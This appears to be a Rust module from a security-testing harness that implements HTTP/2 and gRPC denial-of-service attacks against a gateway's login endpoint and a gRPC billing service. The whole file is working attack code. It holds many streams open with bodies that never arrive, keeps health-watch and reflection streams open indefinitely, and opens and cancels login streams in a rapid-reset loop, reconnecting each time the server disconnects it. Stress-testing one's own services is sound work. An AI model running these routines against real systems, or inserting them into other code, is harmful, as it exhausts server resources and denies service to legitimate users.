//! Attacks over HTTP/2, and the honest gRPC call, with frames under our control.

use std::net::Ipv4Addr;
use std::time::Duration;

use bytes::Bytes;
use h2::Reason;
use h2::client::{ResponseFuture, SendRequest};
use http::Request;
use tokio::task::JoinSet;
use tokio::time::sleep;

use super::Scene;
use super::sockets::connect;

/// What can go wrong with a connection or a stream, in words.
type Outcome<T> = Result<T, String>;

/// What opens an HTTP/2 connection, settings and the acknowledgement of the server's included: a
/// greeted peer that never says anything again.
pub(super) const GREETING: &[u8] =
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0\0\0\0\x04\x01\0\0\0\0";

/// A request that has been sent, and its body, which may be going on.
struct Sent {
    answer: ResponseFuture,
    body: h2::SendStream<Bytes>,
}

async fn open(to: &str, from: Ipv4Addr) -> Outcome<SendRequest<Bytes>> {
    let stream = connect(to, from).await.map_err(|error| error.to_string())?;
    let made = h2::client::Builder::new().handshake(stream).await;
    let (client, connection) = made.map_err(|error| error.to_string())?;
    // Ends with the last handle to it.
    tokio::spawn(connection);
    Ok(client)
}

/// Sends a head, and the body where there is one; without one the body stays open.
async fn send(
    client: &mut SendRequest<Bytes>,
    request: Request<()>,
    body: Option<Bytes>,
) -> Outcome<Sent> {
    let words = |error: h2::Error| error.to_string();
    *client = client.clone().ready().await.map_err(words)?;
    let (answer, mut stream) = client.send_request(request, false).map_err(words)?;
    if let Some(body) = body {
        stream.send_data(body, true).map_err(words)?;
    }
    Ok(Sent { answer, body: stream })
}

fn login(scene: &Scene) -> Request<()> {
    let uri = format!("http://{}/auth/login", scene.gateway);
    let request = Request::post(uri).header("content-type", "application/json");
    request.body(()).expect("a request")
}

fn call(to: &str, method: &str, token: &str) -> Request<()> {
    let request = Request::post(format!("http://{to}/{method}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", format!("Bearer {token}"));
    request.body(()).expect("a request")
}

/// A gRPC frame around a message.
fn framed(message: &[u8]) -> Bytes {
    let length = u32::try_from(message.len()).expect("a short message").to_be_bytes();
    [&[0], length.as_slice(), message].concat().into()
}

/// The status of a unary call on a connection of its own.
pub(super) async fn status(
    to: &str,
    from: Ipv4Addr,
    method: &str,
    token: &str,
    message: &[u8],
) -> Outcome<String> {
    let mut client = open(to, from).await?;
    let sent = send(&mut client, call(to, method, token), Some(framed(message))).await?;
    let answer = sent.answer.await.map_err(|error| error.to_string())?;
    let (head, mut body) = answer.into_parts();
    let text = |headers: &http::HeaderMap| {
        let status = headers.get("grpc-status")?;
        status.to_str().ok().map(str::to_owned)
    };
    if let Some(status) = text(&head.headers) {
        return Ok(status);
    }
    while let Some(data) = body.data().await {
        let data = data.map_err(|error| error.to_string())?;
        let _ = body.flow_control().release_capacity(data.len());
    }
    let trailers = body.trailers().await.map_err(|error| error.to_string())?;
    trailers.as_ref().and_then(text).ok_or_else(|| "no grpc-status".to_owned())
}

/// Whether a stream on a connection of its own has a first message, when one is sent to it that
/// is the last one or not.
pub(super) async fn first(
    to: &str,
    from: Ipv4Addr,
    method: &str,
    token: &str,
    (message, is_last): (&[u8], bool),
) -> Outcome<()> {
    let mut client = open(to, from).await?;
    let mut sent = send(&mut client, call(to, method, token), None).await?;
    sent.body.send_data(framed(message), is_last).map_err(|error| error.to_string())?;
    let answer = sent.answer.await.map_err(|error| error.to_string())?;
    let data = answer.into_body().data().await;
    match data {
        Some(Ok(data)) if !data.is_empty() => Ok(()),
        Some(Err(error)) => Err(error.to_string()),
        _ => Err("a stream without a message".to_owned()),
    }
}

/// Logins whose bodies do not come, `streams` on each connection. Whoever is refused tries again.
pub(super) async fn silent_logins(scene: Scene, size: [usize; 2]) {
    let request = login(&scene);
    hold(&scene, &scene.gateway, size, &request, None).await;
}

/// Calls with a token whose messages do not come.
pub(super) async fn silent_calls(scene: Scene, size: [usize; 2]) {
    let method = "pms.billing.v1.Accounts/GetAccount";
    let request = call(&scene.grpc, method, &scene.token);
    hold(&scene, &scene.grpc, size, &request, None).await;
}

/// Streams that wait for news of health, or for questions by reflection.
pub(super) async fn watches(scene: Scene, [connections, streams]: [usize; 2]) {
    let watch = call(&scene.grpc, "grpc.health.v1.Health/Watch", &scene.token);
    let reflection = "grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
    let reflection = call(&scene.grpc, reflection, &scene.token);
    let half = connections.div_ceil(2);
    tokio::join!(
        hold(&scene, &scene.grpc, [half, streams], &watch, Some(framed(b""))),
        hold(&scene, &scene.grpc, [half, streams], &reflection, None),
    );
}

/// Keeps `streams` requests open on each of some connections.
async fn hold(
    scene: &Scene,
    to: &str,
    [connections, streams]: [usize; 2],
    request: &Request<()>,
    body: Option<Bytes>,
) {
    let mut running = JoinSet::new();
    for _ in 0..connections {
        let (scene, to) = (scene.clone(), to.to_owned());
        let (request, body) = (request.clone(), body.clone());
        running.spawn(async move {
            loop {
                // A connection that the server ends is opened again.
                let _ = hold_one(&scene, &to, streams, &request, body.as_ref()).await;
                sleep(Duration::from_millis(100)).await;
            }
        });
    }
    running.join_all().await;
}

async fn hold_one(
    scene: &Scene,
    to: &str,
    streams: usize,
    request: &Request<()>,
    body: Option<&Bytes>,
) -> Outcome<()> {
    let mut client = open(to, scene.source).await?;
    let mut held = JoinSet::new();
    loop {
        while held.len() < streams {
            let sent = send(&mut client, request.clone(), body.cloned()).await?;
            scene.did();
            held.spawn(async move {
                // The body's handle is kept, or the stream would be reset.
                let answer = sent.answer.await;
                let mut data = answer.map(http::Response::into_body);
                while let Ok(body) = &mut data
                    && let Some(Ok(_)) = body.data().await
                {}
                drop(sent.body);
            });
        }
        held.join_next().await;
        sleep(Duration::from_millis(5)).await;
    }
}

/// One connection that opens `streams` whole logins and takes them back, again and again.
pub(super) async fn resets(scene: Scene, streams: usize) {
    loop {
        // Whoever resets too much is disconnected, and comes again.
        let _ = resets_on_one(&scene, streams).await;
        sleep(Duration::from_millis(50)).await;
    }
}

async fn resets_on_one(scene: &Scene, streams: usize) -> Outcome<()> {
    let mut client = open(&scene.gateway, scene.source).await?;
    let body = Bytes::from_static(br#"{"email":"nobody@example.test","password":"password123"}"#);
    loop {
        let mut opened = Vec::with_capacity(streams);
        for _ in 0..streams {
            opened.push(send(&mut client, login(scene), Some(body.clone())).await?);
            scene.did();
        }
        sleep(Duration::from_millis(20)).await;
        for sent in &mut opened {
            sent.body.send_reset(Reason::CANCEL);
        }
    }
}
